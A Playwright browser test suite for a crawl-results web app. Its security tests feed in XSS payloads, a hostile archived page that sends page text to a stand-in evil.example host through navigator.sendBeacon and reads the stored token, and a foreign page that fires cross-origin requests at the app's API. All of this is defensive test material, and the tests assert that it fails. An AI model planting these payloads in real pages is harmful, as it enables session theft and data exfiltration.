"""Results in the app, in a real Chromium: what a person does, and what strangers' pages try."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Literal
from urllib.parse import quote

import pytest
from playwright.sync_api import APIResponse, Browser, Page, Response, Route, expect

from app_server import ServedApp, serving_app, wait_until
from chromium import PATIENCE_MS, barriers
from found_pages import Find, add_finds, crawl_of
from trailhound.topics.crawls.folder import CrawlFolder
from trailhound.web.hub import Happening

pytestmark = pytest.mark.browser

EVIL = "http://evil.example"
ATTACK = "<img src=x onerror=\"document.title='hacked'\"><script>document.title='hacked'</script>"
WIDE = f"{ATTACK} {'w' * 900}"
HIVE = "https://bees.example/hive"
ARCHIVED = f"""<!doctype html><title>Archived</title>
<meta http-equiv="refresh" content="0;url={EVIL}/refreshed">
<base href="{EVIL}/">
<link rel="stylesheet" href="{EVIL}/style.css">
<p id="words">Words of the archived page, which hive keepers read.</p>
<img src="{EVIL}/pixel.png"><img src="/api/home"><iframe src="/"></iframe>
<object data="{EVIL}/object"></object>
<form id="form" method="post" action="/api/topics/stolen"><button>Go</button></form>
<a id="out" href="{EVIL}/out" target="_top">out</a>
<script>
  try {{ parent.document.title = "hacked"; }} catch {{}}
  try {{ document.title = localStorage.getItem("trailhound-token"); }} catch {{}}
  fetch("/api/topics/stolen", {{ method: "POST" }});
  navigator.sendBeacon("{EVIL}/beacon", document.body.innerText);
  document.getElementById("form").submit();
  top.location = "{EVIL}/top";
</script>"""
FINDS = (
    Find(HIVE, html=ARCHIVED, score=0.95),
    Find(f"https://bees.example/?q={quote(ATTACK)}", ATTACK, ATTACK, score=0.9),
    Find("javascript:document.title='hacked'", "A script for an address", WIDE, score=0.85),
    *(
        Find(
            f"https://bees.example/{number}",
            html=f"<title>Hive {number}</title><p>A page about hive {number}, and nothing else.",
            score=0.8 - number / 100,
        )
        for number in range(25)
    ),
    Find("https://bees.example/near", html="<title>Near miss</title><p>wasps", score=0.45)._replace(
        relevant=False
    ),
)


@pytest.fixture
def bees(tmp_path: Path) -> Iterator[ServedApp]:
    with serving_app(tmp_path / "workspace") as served:
        crawl_of(served.workspace.folder, FINDS).topic.prepare()
        yield served


def opened(
    browser: Browser,
    app: ServedApp,
    width: int = 1100,
    scheme: Literal["light", "dark"] = "light",
) -> Page:
    page = browser.new_page(color_scheme=scheme, viewport={"width": width, "height": 900})
    page.set_default_timeout(PATIENCE_MS)
    page.goto(app.address)
    page.wait_for_selector("h1")
    page.goto(f"{app.base}/#/topics/bees/results")
    page.wait_for_selector("article.result")
    return page


@pytest.fixture
def results(browser: Browser, bees: ServedApp) -> Iterator[Page]:
    page = opened(browser, bees)
    yield page
    page.close()


def listed(bees: ServedApp) -> set[str]:
    page = bees.get("/api/topics/bees/results?limit=100")
    return {each["url"] for each in page["results"]}


def press(page: Page, button: str) -> None:
    """With the keyboard."""
    page.press(f"[aria-label='{button}']", "Enter")


def exported_addresses(page: Page) -> tuple[str, int]:
    """The name of the file that is downloaded, and how many there are in it."""
    page.click("summary:has-text('Export')")
    page.select_option(".menu[open] select", "urls")
    with page.expect_download() as saved:
        page.click(".menu[open] button:has-text('Export')")
    lines = Path(saved.value.path()).read_text("utf-8").splitlines()
    return saved.value.suggested_filename, len(lines)


def test_a_mark_on_its_way_is_no_new_find(results: Page, bees: ServedApp) -> None:
    held: list[tuple[Route, APIResponse]] = []
    results.route("**/marks", lambda route: held.append((route, route.fetch())))
    results.click("[aria-label='Useful: Near miss']")
    wait_until(lambda: "https://bees.example/near" in listed(bees) or None)
    bees.server.app.hub.tell(Happening(kind="crawl", topic="bees"))
    results.wait_for_timeout(1000)  # in which the finds would be counted
    [(route, response)] = held
    route.fulfill(response=response)
    expect(results.get_by_text("29 pages, best first.")).to_be_visible()
    expect(results.get_by_role("button", name="new find")).to_have_count(0)


def test_marks_move_pages_at_once(results: Page, bees: ServedApp) -> None:
    press(results, "Not useful: Hive 0")
    expect(results.get_by_text("Not useful, and out of the results: Hive 0")).to_be_visible()
    wait_until(lambda: "https://bees.example/0" not in listed(bees) or None)
    sites = results.get_by_label("Site").locator("option")
    expect(sites.filter(has_text="bees.example (26)")).to_have_count(1)
    expect(results.locator("[aria-label='Undo: Hive 0']")).to_be_focused()
    press(results, "Undo: Hive 0")
    expect(results.locator("[aria-label='Not useful: Hive 0']")).to_be_focused()
    wait_until(lambda: "https://bees.example/0" in listed(bees) or None)
    useful = results.locator("[aria-label='Useful: Hive 0']")
    useful.click()
    results.click("[aria-label='Not useful: Hive 0']")
    results.click("[aria-label='Undo: Hive 0']")
    expect(useful).to_have_attribute("aria-pressed", "true")
    finds = results.locator("section[aria-labelledby='finds-title']")
    misses = results.locator("section[aria-labelledby='misses-title']")
    misses.locator("[aria-label='Useful: Near miss']").click()
    expect(finds.locator("[aria-label='Useful: Near miss']")).to_have_attribute(
        "aria-pressed", "true"
    )
    expect(misses.locator("[aria-label='Useful: Near miss']")).to_have_count(0)
    wait_until(lambda: "https://bees.example/near" in listed(bees) or None)
    expect(results.get_by_text("29 pages, best first.")).to_be_visible()
    crawl = CrawlFolder(bees.workspace.topic("bees"))
    add_finds(crawl, [Find("https://bees.example/late", html="<title>Late hive</title><p>hive")])
    bees.server.app.hub.tell(Happening(kind="crawl", topic="bees"))
    results.get_by_role("button", name="1 new find – show").click()
    expect(finds.locator("[aria-label='Useful: Late hive']")).to_be_visible()
    expect(results.get_by_text("30 pages, best first.")).to_be_visible()
    learn = results.get_by_role("button", name="Learn from them, and judge all pages again")
    learn.click()
    expect(learn).to_be_hidden()
    wait_until(lambda: bees.get("/api/topics/bees/learning")["learned"])
    results.reload()
    expect(results.locator("article.result").first).to_be_visible()
    expect(learn).to_be_hidden()


def test_a_list_waits_for_marks_on_their_way(results: Page) -> None:
    held: list[Route] = []
    results.route("**/results/marks", lambda route: held.append(route))
    results.click("[aria-label='Not useful: Hive 0']")
    results.get_by_label("Show").select_option("Marked not useful")
    results.wait_for_timeout(300)  # long enough for a list that did not wait
    held[0].continue_()
    finds = results.locator("section[aria-labelledby='finds-title']")
    expect(finds.get_by_text("out of the results: Hive 0")).to_be_visible()
    expect(finds.locator(".result")).to_have_count(1)


def test_search_filters_and_more_pages(results: Page) -> None:
    expect(results.get_by_text("28 pages, best first.")).to_be_visible()
    finds = results.locator("section[aria-labelledby='finds-title'] article.result")
    expect(finds).to_have_count(20)
    results.click("text=Show more >> nth=0")
    expect(finds).to_have_count(28)
    results.fill("input[type=search]", "hive 7")
    expect(finds).to_have_count(1)
    expect(finds.locator("mark").first).to_have_text("Hive")
    results.reload()
    expect(results.locator("input[type=search]")).to_have_value("hive 7")
    expect(finds).to_have_count(1)
    results.fill("input[type=search]", "")
    results.select_option("select >> nth=0", "useful")
    expect(results.get_by_text("Nothing fits these filters.")).to_be_visible()
    results.fill("input[type=search]", "-wasp")
    expect(results.get_by_text("Write a word to look for beside it")).to_be_visible()


def test_filters_of_an_address_are_seen_and_those_without_sense_passed_over(
    results: Page, bees: ServedApp
) -> None:
    filters = "kind=odd&min_score=high&from=soon&to=9&host=gone.example&language=xx"
    results.goto(f"{bees.base}/#/topics/bees/results?{filters}")
    expect(results.get_by_text("Nothing fits these filters.")).to_be_visible()
    site = results.get_by_label("Site")
    expect(site.locator("option")).to_have_count(4)  # all, two sites, and the one that is gone
    expect(site).to_have_value("gone.example")
    expect(results.get_by_label("Language")).to_have_value("xx")
    for title, value in (("Show", "all"), ("Score", ""), ("Fetched from", ""), ("until", "")):
        expect(results.get_by_label(title, exact=True)).to_have_value(value)
    site.select_option("")
    results.get_by_label("Language").select_option("")
    expect(results.get_by_text("28 pages, best first.")).to_be_visible()


def test_what_is_typed_last_stays_out_of_other_views(results: Page, bees: ServedApp) -> None:
    results.fill("input[type=search]", "hive")
    results.get_by_role("link", name="Schedule").click()
    expect(results.get_by_role("button", name="Save")).to_be_visible()
    results.wait_for_timeout(500)  # after which the search would have been made
    assert results.url == f"{bees.base}/#/topics/bees/schedule"


def test_the_list_comes_anew_when_the_app_is_back(results: Page, bees: ServedApp) -> None:
    titles = results.locator("section[aria-labelledby='finds-title'] article.result h3")
    expect(titles).to_have_count(20)
    results.route("**/api/**", lambda route: route.abort())
    results.fill("input[type=search]", "hive 7")
    expect(results.get_by_role("status").filter(has_text="does not answer")).to_be_visible()
    bees.server.app.hub.tell(Happening(kind="crawl", topic="bees"))
    results.evaluate("document.dispatchEvent(new Event('visibilitychange'))")  # it asks anew
    expect(results.get_by_role("alert")).to_contain_text("trying again")
    expect(titles).to_have_count(20)
    results.unroute("**/api/**")
    expect(titles).to_have_text(["Hive 7"])
    expect(results.get_by_text("1 page, those first that fit best.")).to_be_visible()


def test_who_looks_elsewhere_finds_the_list_as_it_was_left(results: Page) -> None:
    finds = results.locator("section[aria-labelledby='finds-title'] article.result")
    results.click("text=Show more >> nth=0")
    expect(finds).to_have_count(28)
    with results.expect_response("**/results/count*"):  # whether there are new finds
        results.evaluate("document.dispatchEvent(new Event('visibilitychange'))")
    results.wait_for_timeout(300)  # long enough for a list
    expect(finds).to_have_count(28)


def test_what_strangers_wrote_is_shown_as_text(results: Page) -> None:
    expect(results.locator("article.result h3 a").nth(1)).to_have_text(ATTACK)
    assert results.locator("article.result img, article.result script").count() == 0
    assert results.locator("a[href^='javascript']").count() == 0
    scripted = results.locator("article.result h3 a").nth(2)
    assert scripted.get_attribute("href") == "#"
    assert "hacked" not in results.title()


def test_near_misses_follow_the_slider_back(results: Page, bees: ServedApp) -> None:
    base = "/api/topics/bees/results"
    held = {"threshold": 0.5, "learned": 0.5, "chosen": False}
    results.route(f"**{base}/threshold", lambda route: route.fulfill(json=held))
    effect = {"joined": 1, "left": 0, "finds": 29}
    results.route(f"**{base}/threshold/effect?*", lambda route: route.fulfill(json=effect))
    results.reload()
    misses = results.locator("section[aria-labelledby='misses-title']")
    slider = misses.get_by_role("slider")
    slider.fill("0.47")
    expect(misses.get_by_text("None above this threshold.")).to_be_visible()
    slider.fill("0.6")
    expect(misses.locator("[aria-label='Useful: Near miss']")).to_be_visible()


def test_an_archived_page_has_no_rights(results: Page, bees: ServedApp) -> None:
    answered: list[Response] = []
    refused: list[tuple[str, str | None]] = []
    results.on("response", lambda response: answered.append(response))
    results.on("requestfailed", lambda request: refused.append((request.url, request.failure)))
    press(results, "Archived copy of Archived")
    expect(results.locator(".archived-text")).to_contain_text("Words of the archived page")
    results.keyboard.press("Escape")
    expect(results.locator("[aria-label='Archived copy of Archived']")).to_be_focused()
    press(results, "Archived copy of Archived")
    results.click("text=As a page")
    frame = results.frame_locator("dialog iframe")
    expect(frame.locator("#words")).to_be_visible()
    frame.locator("#form button").click(force=True)
    frame.locator("#out").click(force=True)
    expect(frame.locator("#words")).to_be_visible()
    assert results.url == f"{bees.base}/#/topics/bees/results"
    assert "hacked" not in results.title()
    assert bees.token not in results.title()
    inside = [each.url for each in answered if each.frame != results.main_frame]
    assert len(inside) == 1, inside
    assert inside[0].startswith(f"{bees.base}/document/")
    outside = [each.url for each in answered if not each.url.startswith(bees.base)]
    assert outside == []
    # What it tried to load did not leave the browser.
    assert {failure for _, failure in refused} <= {"csp"}, refused
    assert [topic["topic"] for topic in bees.get("/api/home")["topics"]] == ["bees"]


def test_earlier_crawls_are_chosen_by_their_days(browser: Browser, bees: ServedApp) -> None:
    present = CrawlFolder(bees.workspace.topic("bees"))
    aside = present.set_aside()
    assert aside is not None
    strange = aside.rename(aside.with_name("crawl-<img src=x onerror=document.title='hacked'>"))
    crawl_of(bees.workspace.folder, FINDS[3:5]).set_aside()
    crawl_of(bees.workspace.folder, [Find(HIVE, html="<title>Anew</title><p>Another text.")])
    page = opened(browser, bees, width=390)
    titles = page.locator("section[aria-labelledby='finds-title'] article.result h3")
    chosen = page.get_by_label("Crawl", exact=True)
    portal = page.locator("summary:has-text('Portal')")
    expect(titles).to_have_text(["Anew"])
    expect(portal).to_be_visible()
    options = chosen.locator("option").all_inner_texts()
    assert options[0] == "The present one"
    assert sorted(options[1:]) == [
        "crawl-1: Mar 1, 2026, 2 finds",
        f"{strange.name}: Mar 1, 2026, 28 finds",
    ]
    chosen.focus()
    held: list[Route] = []
    page.route("**/results?*crawl=crawl-1*", lambda route: held.append(route))
    chosen.select_option("crawl-1")
    expect(page.get_by_role("status").filter(has_text="Loading")).to_be_visible()
    for route in held:
        route.continue_()
    page.unroute("**/results?*crawl=crawl-1*")
    expect(titles).to_have_text(["Hive 0", "Hive 1"])
    expect(chosen).to_be_focused()
    expect(portal).to_have_count(0)
    assert page.url.endswith("/results?crawl=crawl-1")
    page.fill("input[type=search]", "hive 1")
    expect(titles).to_have_text(["Hive 1"])
    page.reload()
    expect(titles).to_have_text(["Hive 1"])
    expect(chosen).to_have_value("crawl-1")
    page.click("[aria-label='Why is it here? Hive 1']")
    expect(page.locator(".panel")).to_contain_text("It was fetched, and is relevant")
    press(page, "Archived copy of Hive 1")
    expect(page.locator(".archived-text")).to_contain_text("A page about hive 1")
    page.keyboard.press("Escape")
    assert barriers(page) == []
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    assert exported_addresses(page) == ("bees-crawl-1.txt", 2)
    press(page, "Not useful: Hive 1")
    gone = "/api/topics/bees/results/count?crawl=crawl-1&kind=rejected"
    wait_until(lambda: bees.get(gone)["count"] or None)
    chosen.select_option(strange.name)
    expect(page.locator("[aria-label^='Undo']")).to_have_count(0)
    expect(chosen).to_have_value(strange.name)
    chosen.select_option("")
    page.fill("input[type=search]", "")
    expect(titles).to_have_text(["Anew"])
    assert "hacked" not in page.title()
    page.close()


def test_a_foreign_page_can_do_nothing(browser: Browser, bees: ServedApp) -> None:
    page = opened(browser, bees)
    body = f"""<title>Evil</title><form id="f" method="post" target="hidden"
        action="{bees.base}/api/topics/bees/results/rejudge"></form><iframe name="hidden"></iframe>
        <iframe id="framed" src="{bees.base}/"></iframe><script>
        const tried = [];
        const ask = (path, how) => fetch("{bees.base}" + path, how).then(
          (answer) => answer.type === "opaque" ? "opaque" : "read", () => "refused");
        window.done = Promise.all([
          ask("/api/home", {{}}),
          ask("/api/topics/stolen", {{ method: "POST", mode: "no-cors" }}),
          ask("/api/topics/bees", {{ method: "DELETE" }}),
          ask("/api/topics/bees/results/marks", {{ method: "POST", mode: "no-cors",
            body: '{{"urls": ["{HIVE}"], "useful": false}}' }}),
          ask("/v1/news", {{ method: "POST", mode: "no-cors", body: "{{}}" }}),
          ask("/main.js", {{}}),
        ]);
        document.getElementById("f").submit();</script>"""
    page.route(
        f"{EVIL}/**",
        lambda route: route.fulfill(body=body, content_type="text/html"),
    )
    page.goto(f"{EVIL}/")
    assert "read" not in page.evaluate("window.done")
    assert page.evaluate("localStorage.getItem('trailhound-token')") is None
    assert [topic["topic"] for topic in bees.get("/api/home")["topics"]] == ["bees"]
    assert HIVE in listed(bees)
    assert bees.get("/api/jobs") == []
    page.close()


def test_finds_are_exported_and_published(results: Page) -> None:
    results.fill("input[type=search]", "hive 7")
    expect(results.get_by_text("1 page, those first that fit best.")).to_be_visible()
    assert exported_addresses(results) == ("bees.txt", 28)
    expect(results.locator(".menu[open]")).to_contain_text("all 28 finds, whatever is searched for")
    results.click("summary:has-text('Portal')")
    expect(results.locator(".menu[open]")).to_have_count(1)
    results.press(".menu[open] input >> nth=0", "Escape")
    expect(results.locator(".menu[open]")).to_have_count(0)
    results.click("summary:has-text('Portal')")
    results.click("#finds-title")
    expect(results.locator(".menu[open]")).to_have_count(0)
    results.click("summary:has-text('Portal')")
    results.fill(".menu[open] input >> nth=0", "Bee health")
    results.click(".menu[open] button:has-text('Publish')")
    with results.expect_popup() as opening:
        results.click(".menu[open] a")
    portal = opening.value
    portal.fill("#q", "hive 7")
    portal.press("#q", "Enter")
    expect(portal.get_by_role("link", name="Hive 7")).to_be_visible()
    assert portal.evaluate("window.opener") is None
    results.click(".menu[open] button:has-text('Take it back')")
    expect(results.locator(".menu[open] button:has-text('Publish')")).to_be_visible()


@pytest.mark.parametrize(("scheme", "width"), [("light", 1100), ("dark", 390)])
def test_nothing_serious_stands_in_anybodys_way(
    browser: Browser, bees: ServedApp, scheme: Literal["light", "dark"], width: int
) -> None:
    page = opened(browser, bees, width, scheme)
    page.wait_for_selector("section[aria-labelledby='misses-title'] article.result")
    page.click("summary:has-text('Filters')")
    assert barriers(page) == []
    page.click("summary:has-text('Export')")
    assert barriers(page) == []
    page.click("summary:has-text('Export')")
    page.click("[aria-label^='Why is it here?'] >> nth=3")
    page.wait_for_selector(".panel")
    assert barriers(page) == []
    page.click("[aria-label='Archived copy of Archived']")
    page.wait_for_selector("dialog")
    assert barriers(page) == []
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    page.close()
